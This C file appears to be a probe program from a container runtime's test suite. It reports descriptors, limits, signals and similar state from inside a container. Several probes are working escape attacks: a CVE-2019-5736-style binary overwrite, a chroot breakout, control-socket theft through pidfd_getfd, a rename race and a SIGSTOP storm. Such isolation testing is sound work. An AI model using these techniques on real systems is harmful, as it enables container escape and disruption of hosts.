/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A static program for what a shell can't ask from inside a container.
 * Prints one answer a line; exit status 0 unless its own usage was wrong.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static void answer(long r)
{
	if (r < 0)
		printf("%s\n", strerrorname_np(errno));
	else
		printf("ok\n");
}

static int fds(void)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;
	char path[PATH_MAX], to[PATH_MAX];

	while (d && (e = readdir(d))) {
		int fd = atoi(e->d_name);
		ssize_t n;

		if (e->d_name[0] == '.' || fd == dirfd(d))
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		n = readlink(path, to, sizeof(to) - 1);
		to[n < 0 ? 0 : n] = '\0';
		printf("%d %s\n", fd, to);
	}
	return 0;
}

static int limits(void)
{
	static const char *const names[] = {
		[RLIMIT_CPU] = "CPU",		[RLIMIT_FSIZE] = "FSIZE",
		[RLIMIT_DATA] = "DATA",		[RLIMIT_STACK] = "STACK",
		[RLIMIT_CORE] = "CORE",		[RLIMIT_RSS] = "RSS",
		[RLIMIT_NPROC] = "NPROC",	[RLIMIT_NOFILE] = "NOFILE",
		[RLIMIT_MEMLOCK] = "MEMLOCK",	[RLIMIT_AS] = "AS",
		[RLIMIT_LOCKS] = "LOCKS",	[RLIMIT_SIGPENDING] = "SIGPENDING",
		[RLIMIT_MSGQUEUE] = "MSGQUEUE", [RLIMIT_NICE] = "NICE",
		[RLIMIT_RTPRIO] = "RTPRIO",	[RLIMIT_RTTIME] = "RTTIME",
	};

	for (unsigned i = 0; i < sizeof(names) / sizeof(*names); i++) {
		struct rlimit l;

		if (getrlimit(i, &l) == 0)
			printf("RLIMIT_%s %llu %llu\n", names[i], (unsigned long long)l.rlim_cur,
			       (unsigned long long)l.rlim_max);
	}
	return 0;
}

/* A 32-bit entry: getpid is 20 there. */
static int syscall32(long nr)
{
#ifdef __x86_64__
	long r;

	__asm__ volatile("int $0x80" : "=a"(r) : "a"(nr) : "memory", "r8", "r9", "r10", "r11");
	if (r < 0) {
		errno = (int)-r;
		r = -1;
	}
	answer(r);
#else
	(void)nr;
	puts("ENOSYS");
#endif
	return 0;
}

static int tty(void)
{
	struct winsize w = { 0 };

	printf("isatty %d %d %d\n", isatty(0), isatty(1), isatty(2));
	printf("ttyname %s\n", ttyname(0) ? ttyname(0) : "-");
	ioctl(0, TIOCGWINSZ, &w);
	printf("size %d %d\n", w.ws_row, w.ws_col);
	printf("session %d %d\n", tcgetpgrp(0) == getpgrp(), getsid(0));
	return 0;
}

static int cwd(void)
{
	char buf[PATH_MAX];
	long n = syscall(SYS_getcwd, buf, sizeof(buf));

	if (n < 0)
		answer(-1);
	else
		printf("%s\n", buf);
	return 0;
}

static int answer_open(int argc, char **argv)
{
	return answer(open(argv[2], argc > 3 && argv[3][0] == 'w' ? O_WRONLY : O_RDONLY)), 0;
}

static int answer_mkdir(int argc, char **argv)
{
	(void)argc;
	return answer(mkdir(argv[2], 0755)), 0;
}

/* PATH c|b MAJOR MINOR */
static int answer_mknod(int argc, char **argv)
{
	(void)argc;
	return answer(mknod(argv[2], argv[3][0] == 'b' ? S_IFBLK | 0600 : S_IFCHR | 0600,
			    makedev((unsigned)atoi(argv[4]), (unsigned)atoi(argv[5])))),
	       0;
}

/* NR [ARG…] */
static int answer_syscall(int argc, char **argv)
{
	long a[6] = { 0 };

	for (int i = 3; i < argc && i < 9; i++)
		a[i - 3] = strtol(argv[i], NULL, 0);
	errno = 0;
	answer(syscall(atol(argv[2]), a[0], a[1], a[2], a[3], a[4], a[5]));
	return 0;
}

static int answer_syscall32(int argc, char **argv)
{
	(void)argc;
	return syscall32(atol(argv[2]));
}

static int clocks(void)
{
	struct timespec m, b;

	clock_gettime(CLOCK_MONOTONIC, &m);
	clock_gettime(CLOCK_BOOTTIME, &b);
	printf("%ld %ld\n", (long)m.tv_sec, (long)b.tv_sec);
	return 0;
}

static int dumpable(void)
{
	return printf("%d\n", prctl(PR_GET_DUMPABLE)), 0;
}

/* Serial of the session keyring. */
static int keyring(void)
{
	return printf("%ld\n", syscall(SYS_keyctl, 0, -3, 0)), 0;
}

static int print_argv(int argc, char **argv)
{
	for (int i = 2; i < argc; i++)
		printf("[%s]\n", argv[i]);
	return 0;
}

static int print_env(void)
{
	extern char **environ;

	for (char **e = environ; *e; e++)
		printf("[%s]\n", *e);
	return 0;
}

/* Dispositions must be the default. */
static int sigs(void)
{
	for (int s = 1; s < 65; s++) {
		struct sigaction sa;

		if (sigaction(s, NULL, &sa) == 0 && sa.sa_handler != SIG_DFL)
			printf("%d %s\n", s, sa.sa_handler == SIG_IGN ? "ignored" : "?");
	}
	puts("end");
	return 0;
}

/* Touch N MiB. */
static int memory(int argc, char **argv)
{
	size_t n = (size_t)atol(argv[2]) << 20;
	char *p = malloc(n);

	(void)argc;
	if (!p)
		return puts("ENOMEM"), 0;
	for (size_t i = 0; i < n; i += 4096)
		p[i] = 1;
	puts("ok");
	return 0;
}

/* N children that wait; prints how many could be had. Pid 1 takes them along. */
static int forks(int argc, char **argv)
{
	int n = atoi(argv[2]), i;

	(void)argc;
	for (i = 0; i < n; i++) {
		pid_t p = fork();

		if (p < 0)
			break;
		if (p == 0)
			pause(), _exit(0);
	}
	printf("%d\n", i);
	return 0;
}

/* Hold a lock on FILE, which holds a byte once it is held, and wait. */
static int hold_lock(int argc, char **argv)
{
	int fd = open(argv[2], O_RDWR | O_CREAT, 0644);

	(void)argc;
	if (fd < 0 || flock(fd, LOCK_EX) < 0 || write(fd, "x", 1) != 1)
		return 1;
	return pause();
}

/* What other processes hold, seen from inside for N tenths of a second: fds over 2, capabilities. */
static void look_at(const char *pid)
{
	char path[320], comm[32] = "", line[256], link[256];
	struct dirent *ent;
	FILE *f;
	DIR *d;

	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	if (!(f = fopen(path, "re")))
		return;
	if (fgets(comm, sizeof(comm), f))
		comm[strcspn(comm, "\n")] = '\0';
	fclose(f);
	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	d = opendir(path);
	while (d && (ent = readdir(d))) {
		ssize_t n = readlinkat(dirfd(d), ent->d_name, link, sizeof(link) - 1);
		struct stat held, named;

		if (n <= 0 || atoi(ent->d_name) <= 2)
			continue;
		link[n] = '\0';
		/* What has the same name for us is no prey. */
		if (fstatat(dirfd(d), ent->d_name, &held, 0) < 0) {
			if (errno == ENOENT || errno == ESRCH)
				continue; /* gone meanwhile */
		} else if (stat(link, &named) == 0 && held.st_dev == named.st_dev &&
			   held.st_ino == named.st_ino) {
			continue;
		}
		printf("fd %s %s\n", comm, link);
	}
	if (d)
		closedir(d);
	snprintf(path, sizeof(path), "/proc/%s/status", pid);
	if (!(f = fopen(path, "re")))
		return;
	while (fgets(line, sizeof(line), f))
		if (!strncmp(line, "CapPrm:", 7))
			printf("caps %s %s", comm, line + 8);
	fclose(f);
}

static int thief(int argc, char **argv)
{
	struct timespec now, end;

	(void)argc;
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += atoi(argv[2]) / 10;
	puts("ready");
	fflush(stdout);
	do {
		DIR *d = opendir("/proc");
		struct dirent *ent;

		while (d && (ent = readdir(d)))
			if (atoi(ent->d_name) > 1 && atoi(ent->d_name) != getpid())
				look_at(ent->d_name);
		if (d)
			closedir(d);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec < end.tv_sec);
	return 0;
}

/* stopper SECONDS: stops everybody else it can see, all the time */
static int stopper(int argc, char **argv)
{
	time_t end = time(NULL) + atoi(argv[2]);

	(void)argc;
	puts("ready");
	fflush(stdout);
	while (time(NULL) < end)
		kill(-1, SIGSTOP);
	return 0;
}

/* A message of the runtime's two programs: see src/sys/channel.h. */
struct spoken {
	uint32_t kind;
	int32_t value;
	uint64_t number;
	int32_t code;
	char text[508];
};

/* What comes back on a stolen channel: is there a descriptor with it? */
static bool hear_loot(int fd)
{
	const struct timeval wait = { .tv_sec = 1 };
	union {
		struct cmsghdr head;
		char bytes[CMSG_SPACE(sizeof(int))];
	} c;
	struct spoken m;
	struct iovec iov = { &m, sizeof(m) };
	struct msghdr h = { .msg_iov = &iov, .msg_iovlen = 1 };

	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
	for (int i = 0; i < 4; i++) {
		h.msg_control = c.bytes;
		h.msg_controllen = sizeof(c.bytes);
		if (recvmsg(fd, &h, 0) <= 0)
			return false;
		if (h.msg_controllen >= CMSG_LEN(sizeof(int)))
			return true;
	}
	return false;
}

/* Take a channel from whoever has one, stop him, and speak in his place. */
static bool speak_for(int pid, const struct spoken *m)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	bool spoke = false;

	for (int n = 3; pidfd >= 0 && n < 64 && !spoke; n++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0), type = 0;
		socklen_t len = sizeof(type);

		if (fd < 0)
			continue;
		if (!getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &len) && type == SOCK_SEQPACKET) {
			kill(pid, SIGSTOP);
			spoke = send(fd, m, sizeof(*m), MSG_NOSIGNAL) == (ssize_t)sizeof(*m);
			puts(spoke ? "spoke" : "mute");
			puts(spoke && hear_loot(fd) ? "loot" : "nothing");
			fflush(stdout);
			kill(pid, SIGCONT);
		}
		close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
	return spoke;
}

/* impostor SECONDS KIND TEXT: until it has spoken for somebody once. */
static int impostor(int argc, char **argv)
{
	struct spoken m = { .kind = (uint32_t)atoi(argv[3]) };
	time_t end = time(NULL) + atoi(argv[2]);
	int last = getpid();

	if (argc > 4)
		snprintf(m.text, sizeof(m.text), "%s", argv[4]);
	puts("ready");
	fflush(stdout);
	/* Numbers go up: who joins next has one of the next. */
	while (time(NULL) < end)
		for (int pid = getpid() + 1; pid < last + 32; pid++) {
			if (kill(pid, 0) == 0 && pid > last)
				last = pid;
			if (speak_for(pid, &m))
				return 0;
		}
	return 1;
}

/* Deeper than any path is long. */
static int deep(int argc, char **argv)
{
	long r = 0;

	(void)argc;
	for (int n = atoi(argv[2]); n > 0 && r >= 0; n--) {
		r = mkdir("d", 0755);
		if (r >= 0)
			r = chdir("d");
	}
	answer(r);
	return 0;
}

/* One datagram with a descriptor attached as often as @fds says. */
static long send_to_manager(int s, const char *text, size_t len, int fds)
{
	static char control[CMSG_SPACE(64 * sizeof(int))];
	struct iovec iov = { (void *)(uintptr_t)text, len };
	struct msghdr m = { .msg_iov = &iov, .msg_iovlen = 1 };
	struct cmsghdr *c = (void *)control;

	if (fds) {
		m.msg_control = control;
		m.msg_controllen = CMSG_SPACE((size_t)fds * sizeof(int));
		c->cmsg_level = SOL_SOCKET;
		c->cmsg_type = SCM_RIGHTS;
		c->cmsg_len = CMSG_LEN((size_t)fds * sizeof(int));
		memset(CMSG_DATA(c), 0, (size_t)fds * sizeof(int));
	}
	return sendmsg(s, &m, MSG_NOSIGNAL);
}

/* Each argument one message: TEXT; +N: a READY=1 in N bytes; *N: N of them that say nothing; &TEXT: with fds. */
static int notify(int argc, char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	const char *path = getenv("NOTIFY_SOCKET");
	int s = socket(AF_UNIX, SOCK_DGRAM, 0), size = 8 << 20;
	long r = 0;

	strncpy(a.sun_path, path ? path : "", sizeof(a.sun_path) - 1);
	setsockopt(s, SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof(size));
	setsockopt(s, SOL_SOCKET, SO_SNDBUF, &size, sizeof(size));
	if (connect(s, (const void *)&a, sizeof(a)) < 0) {
		answer(-1);
		return 0;
	}
	for (int i = 2; i < argc; i++) {
		const char *text = argv[i];
		size_t len = strtoul(text + 1, NULL, 10);

		if (*text == '+') {
			char *big = malloc(len);

			memset(big, '\n', len);
			memcpy(big, "READY=1", 7);
			r = send_to_manager(s, big, len, 0);
			free(big);
		} else if (*text == '*') {
			for (size_t n = 0; n < len && r >= 0; n++)
				r = send_to_manager(s, "STATUS=on my way", 16, 0);
		} else if (*text == '&') {
			r = send_to_manager(s, text + 1, strlen(text + 1), 64);
		} else {
			r = send_to_manager(s, text, strlen(text), 0);
		}
		answer(r);
		fflush(stdout);
	}
	return 0;
}

/* A file that somebody executes, held open, and what is tried with it once he has ended. */
struct prey {
	dev_t dev;
	ino_t ino;
	int fd;
	char link[128];
};

static bool overwritten(const struct prey *p)
{
	char path[64];
	int fd;
	bool won;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", p->fd);
	(void)chmod(path, 0777);
	fd = open(path, O_WRONLY);
	if (fd < 0)
		return false;
	won = pwrite(fd, "won", 3, 0) == 3 || ftruncate(fd, 0) == 0;
	close(fd);
	return won;
}

static bool is_prey(const char *link)
{
	static const char *const names[] = { "cay", "cay-init", "memfd:cay-init", "naive" };
	const char *base = strrchr(link, '/') ? strrchr(link, '/') + 1 : link;
	size_t n = strcspn(base, " ");

	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++)
		if (strlen(names[i]) == n && !strncmp(base, names[i], n))
			return true;
	return false;
}

static void hold_program(const char *pid, struct prey *held, unsigned *count, unsigned room)
{
	struct prey *p = &held[*count % room], new;
	char path[320];
	struct stat st;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	new.fd = open(path, O_RDONLY | O_CLOEXEC);
	if (new.fd < 0)
		return;
	/* The name of what was opened: meanwhile he may execute another. */
	snprintf(path, sizeof(path), "/proc/self/fd/%d", new.fd);
	n = readlink(path, new.link, sizeof(new.link) - 1);
	new.link[n < 0 ? 0 : n] = '\0';
	fstat(new.fd, &st);
	new.dev = st.st_dev;
	new.ino = st.st_ino;
	for (unsigned i = 0; i < room && i < *count; i++)
		if (held[i].dev == new.dev && held[i].ino == new.ino) {
			close(new.fd);
			return;
		}
	/* Nobody else's programs, whatever this is run on. */
	if (!is_prey(new.link)) {
		close(new.fd);
		return;
	}
	if (*count >= room)
		close(p->fd);
	*p = new;
	++*count;
	printf("saw %s\n", new.link);
}

/* CVE-2019-5736: hold the programs of all that come by, and write to them when they are gone. */
static int overwrite(int argc, char **argv)
{
	static struct prey held[64];
	enum { ROOM = sizeof(held) / sizeof(*held) };
	struct timespec now, end;
	unsigned count = 0;

	(void)argc;
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += atoi(argv[2]);
	setlinebuf(stdout);
	puts("ready");
	do {
		DIR *d = opendir("/proc");
		struct dirent *ent;

		while (d && (ent = readdir(d)))
			if (atoi(ent->d_name) > 0 && atoi(ent->d_name) != getpid())
				hold_program(ent->d_name, held, &count, ROOM);
		if (d)
			closedir(d);
		for (unsigned i = 0; i < ROOM && i < count; i++)
			if (overwritten(&held[i]))
				printf("won %s\n", held[i].link);
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (now.tv_sec < end.tv_sec);
	puts("end");
	return 0;
}

/* Both ends of a connection on this host's loopback. */
static int pair_tcp(int ends[2])
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t n = sizeof(a);
	int l = socket(AF_INET, SOCK_STREAM, 0);

	if (l < 0 || bind(l, (struct sockaddr *)&a, n) < 0 || listen(l, 1) < 0 ||
	    getsockname(l, (struct sockaddr *)&a, &n) < 0)
		return -1;
	ends[0] = socket(AF_INET, SOCK_STREAM, 0);
	if (connect(ends[0], (struct sockaddr *)&a, n) < 0)
		return -1;
	ends[1] = accept(l, NULL, NULL);
	close(l);
	return ends[1];
}

static int connect_unix(const char *path)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	return connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0 ? -1 : fd;
}

/* tcp | unix PATH: numbers to stdout, each sent through the socket before. */
static int count(int argc, char **argv)
{
	char text[16], got[16];
	int ends[2] = { -1, -1 };
	bool tcp = !strcmp(argv[2], "tcp");

	if ((tcp ? pair_tcp(ends) : (ends[0] = connect_unix(argc > 3 ? argv[3] : ""))) < 0)
		return answer(-1), 1;
	for (int i = 1;; i++) {
		ssize_t n = snprintf(text, sizeof(text), "%d\n", i);

		if (send(ends[0], text, (size_t)n, 0) != n ||
		    (tcp && (recv(ends[1], got, (size_t)n, MSG_WAITALL) != n ||
			     memcmp(got, text, (size_t)n))))
			return answer(-1), 1;
		if (write(1, text, (size_t)n) != n)
			return 1;
		usleep(100000);
	}
}

/* Exchange two names until killed: whoever checks a path and uses it later loses. */
static int flip(int argc, char **argv)
{
	(void)argc;
	while (renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0)
		;
	return 1;
}

/* add NAME PROGRAM…: runs it with a session keyring that holds a key · find NAME */
static int key(int argc, char **argv)
{
	if (!strcmp(argv[2], "add")) {
		if (syscall(SYS_keyctl, 1, NULL) < 0 ||
		    syscall(SYS_add_key, "user", argv[3], "secret", 6, -3) < 0)
			return answer(-1), 1;
		execvp(argv[4], argv + 4);
		return 1;
	}
	(void)argc;
	return answer(syscall(SYS_keyctl, 10, -3, "user", argv[3], 0)), 0;
}

/* DIRECTORY FILE: out of a chroot the classic way, by a root below the working directory; then open FILE. */
static int unroot(int argc, char **argv)
{
	(void)argc;
	if ((mkdir(argv[2], 0755) < 0 && errno != EEXIST) || chroot(argv[2]) < 0)
		return answer(-1), 1;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return answer(-1), 1;
	if (chroot(".") < 0)
		return answer(-1), 1;
	return answer(open(argv[3], O_RDONLY) < 0 ? -1 : 0), 0;
}

static const struct {
	const char *name;
	int (*plain)(void);
	int (*with)(int argc, char **argv);
} probes[] = {
	{ "fds", fds, NULL },
	{ "rlimits", limits, NULL },
	{ "tty", tty, NULL },
	{ "cwd", cwd, NULL },
	{ "syscall32", NULL, answer_syscall32 },
	{ "mkdir", NULL, answer_mkdir },
	{ "unroot", NULL, unroot },
	{ "open", NULL, answer_open },
	{ "mknod", NULL, answer_mknod },
	{ "syscall", NULL, answer_syscall },
	{ "clocks", clocks, NULL },
	{ "dumpable", dumpable, NULL },
	{ "keyring", keyring, NULL },
	{ "argv", NULL, print_argv },
	{ "env", print_env, NULL },
	{ "sigs", sigs, NULL },
	{ "memory", NULL, memory },
	{ "fork", NULL, forks },
	{ "thief", NULL, thief },
	{ "stopper", NULL, stopper },
	{ "impostor", NULL, impostor },
	{ "lock", NULL, hold_lock },
	{ "notify", NULL, notify },
	{ "deep", NULL, deep },
	{ "overwrite", NULL, overwrite },
	{ "flip", NULL, flip },
	{ "count", NULL, count },
	{ "key", NULL, key },
};

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	for (size_t i = 0; i < sizeof(probes) / sizeof(probes[0]); i++)
		if (!strcmp(what, probes[i].name))
			return probes[i].plain ? probes[i].plain() : probes[i].with(argc, argv);
	fprintf(stderr, "probe: what?\n");
	return 2;
}
